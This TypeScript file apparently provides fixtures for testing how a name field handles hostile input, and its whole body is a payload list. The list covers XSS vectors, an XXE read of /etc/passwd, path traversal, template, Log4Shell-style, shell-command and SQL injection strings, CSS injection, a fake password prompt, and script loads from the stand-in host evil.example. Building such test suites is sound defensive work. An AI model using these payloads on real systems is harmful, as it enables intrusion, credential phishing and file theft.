import { ODD, TURNED } from "./odd-texts.ts";

/** What strangers write where a name is asked for. Run as a script, each would set `window.__pwned`. */

const RUN = "window.__pwned=1";
/** Without a letter that HTML or a template treats specially. */
const BARE = "__pwned=1";

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<script src=data:text/javascript,${BARE}></script>`,
  `<script src=//evil.example/x.js></script>`,
  `<script type=module>${RUN}</script>`,
  `<ScRiPt>${RUN}</sCrIpT>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `--><script>${RUN}</script><!--`,
  `]]><script>${RUN}</script>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<iframe src="javascript:parent.${BARE}"></iframe>`,
  `<iframe srcdoc="<script>parent.${BARE}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href=//evil.example/>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<meta http-equiv=refresh content="0;url=//evil.example/">`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<link rel=import href="data:text/html,<script>${RUN}</script>">`,
  `<style>@import "//evil.example/x.css";</style>`,
  `<style>*{display:none}</style>`,
  `<template><script>${RUN}</script></template>`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<form><button formaction="javascript:${RUN}">x</button></form>`,
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="java\tscript:${RUN}">x</a>`,
  `<a href="&#106;avascript:${RUN}">x</a>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<math href="javascript:${RUN}">x</math>`,
  `<portal src="javascript:${RUN}">`,
  `<fencedframe src=//evil.example></fencedframe>`,
  `<dialog open>log in again: <input name=password></dialog>`,
];

const HANDLERS = [
  ...[
    "img src=x onerror",
    "svg onload",
    "body onload",
    "input autofocus onfocus",
    "select autofocus onfocus",
  ],
  ...["textarea autofocus onfocus", "video onerror src=x", "audio onerror src=x", "details open ontoggle"],
  ...[
    "marquee onstart",
    "iframe onload",
    "object onerror data=x",
    "style onload",
    "link rel=stylesheet href=x onerror",
  ],
  ...[
    "div style=animation-name:x onanimationstart",
    "div onpointerenter",
    "xss tabindex=1 autofocus onfocus",
  ],
  ...["button popovertarget=x onclick", "div popover id=x onbeforetoggle", "input type=image src=x onerror"],
  ...[
    "track onerror src=x",
    "dialog open onclose",
    "svg><animate onbegin",
    "svg><image href=x onerror",
    "img srcset=x onerror",
  ],
].map((tag) => `<${tag}=${RUN}>`);

const VECTORS = [
  `<svg><script>${RUN}</script></svg>`,
  `<svg><script href=data:,${BARE} />`,
  `<svg><a xlink:href="javascript:${RUN}"><text y=20>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><image href=x onerror=${BARE} /></svg>#x">`,
  `<svg><foreignObject><script>${RUN}</script></foreignObject></svg>`,
  `<svg><style>@import '//evil.example'</style></svg>`,
  `<svg><set attributeName=onmouseover to=${BARE}>`,
  `<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>`,
  `<?xml-stylesheet href="javascript:${RUN}"?>`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

const ADDRESSES = [
  ...[
    `javascript:${RUN}`,
    `JaVaScRiPt:${RUN}`,
    `javascript://x%0a${RUN}`,
    ` javascript:${RUN}`,
    `\u0001javascript:${RUN}`,
  ],
  ...[
    `java\nscript:${RUN}`,
    `vbscript:${RUN}`,
    `data:text/html,<script>${RUN}</script>`,
    `data:text/html;base64,PHNjcmlwdD4=`,
  ],
  ...[
    `data:image/svg+xml,<svg onload=${RUN}>`,
    "blob:http://127.0.0.1/x",
    "file:///etc/passwd",
    "//evil.example",
    "\\\\evil.example\\x",
  ],
  ...[
    "http://evil.example/",
    "https://user:pass@evil.example",
    "latchkey://open/x",
    "mailto:x?body=y",
    "tel:1",
    "about:blank",
  ],
  ...[
    "#/settings",
    "#launch=guess",
    "?open=1",
    "/../../etc/passwd",
    "..\\..\\x",
    "%2e%2e%2f",
    "view-source:x",
    "filesystem:x",
  ],
];

const ATTRIBUTES = [
  ...[
    `" onmouseover="${RUN}`,
    `' onmouseover='${RUN}`,
    `\` onmouseover=\`${RUN}`,
    `"><img src=x onerror=${RUN}>`,
  ],
  ...[
    `'><img src=x onerror=${RUN}>`,
    `" autofocus onfocus=${RUN} x="`,
    `" style="position:fixed;inset:0" x="`,
    `"/><svg/onload=${RUN}>`,
  ],
  ...[
    "x onerror=alert",
    "class=x hidden",
    '" hidden="',
    "' aria-hidden='true",
    '" role="alert',
    "\u00a0onload=x",
    "&quot; onload=x",
  ],
  ...[
    "&lt;script&gt;",
    "&#60;script&#62;",
    "&#x3c;script>",
    "%3Cscript%3E",
    "\\u003cscript\\u003e",
    "\\x3cscript\\x3e",
    "+ADw-script+AD4-",
  ],
];

const TEMPLATES = [
  ...[
    `{{constructor.constructor('${RUN}')()}}`,
    `{{7*7}}`,
    `\${${BARE}}`,
    `#{${BARE}}`,
    `<%= ${BARE} %>`,
    `{%${BARE}%}`,
    `{{{x}}}`,
  ],
  ...[
    `[[${BARE}]]`,
    `*{${BARE}}`,
    `@(${BARE})`,
    `$\{jndi:ldap://evil.example/x}`,
    "{{this}}",
    "%{x}",
    "%s%n%x",
    "{0}",
    "$(touch /tmp/pwned)",
  ],
  ...[
    "`touch /tmp/pwned`",
    "; touch /tmp/pwned",
    "| touch /tmp/pwned",
    "&& touch /tmp/pwned",
    "-oProxyCommand=touch",
    "--help",
    "' OR 1=1 --",
  ],
];

const STYLES = [
  ...[
    "background:url(//evil.example)",
    "expression(alert(1))",
    "}*{display:none",
    "*/ } body { display: none } /*",
    "</style>",
  ],
  ...[
    "behavior:url(x)",
    "@import url(x)",
    "-moz-binding:url(x)",
    "\\3c script",
    "content:attr(x)",
    "--x:1",
    "position:fixed",
  ],
];

export const PAYLOADS: readonly string[] = [
  ...new Set([
    ...ELEMENTS,
    ...HANDLERS,
    ...VECTORS,
    ...ADDRESSES,
    ...ATTRIBUTES,
    ...TEMPLATES,
    ...STYLES,
    ...TURNED,
    ...ODD,
  ]),
];
